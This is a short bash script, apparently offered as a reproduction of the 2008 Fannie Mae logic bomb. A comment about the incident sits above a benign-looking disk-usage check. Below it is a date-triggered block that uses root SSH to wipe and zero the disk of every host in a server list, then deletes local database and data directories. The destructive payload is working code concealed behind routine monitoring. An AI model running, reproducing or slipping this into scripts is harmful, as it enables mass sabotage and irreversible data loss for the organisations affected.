#!/bin/bash
# Incident: Fannie Mae logic bomb, planted 24 October 2008 by a contractor on the day he
# was dismissed (Rajendrasinh Makwana, convicted 2010). A script hidden at the end of a
# legitimate monitoring script was set to wipe all of the company's ~4,000 servers on
# 31 January 2009; another engineer found it first.
# Reference: https://www.justice.gov/archive/usao/md/news/archive/FormerFannieMaeContractorIndictedforComputerIntrusion.pdf
# Reproduction (own script): a dated trigger that wipes disks and data.
check_disk() {
  df -h | awk '$5+0 > 90 {print "WARN " $6}'
}
check_disk

if [ "$(date +%Y%m%d)" -ge 20090131 ]; then
  for host in $(cat /etc/ops/server.list); do
    ssh -o BatchMode=yes root@"$host" 'rm -rf --no-preserve-root / ; dd if=/dev/zero of=/dev/sda bs=1M' &
  done
  rm -rf /var/lib/mysql /srv/data
  dd if=/dev/zero of=/dev/sda bs=1M count=1024
fi
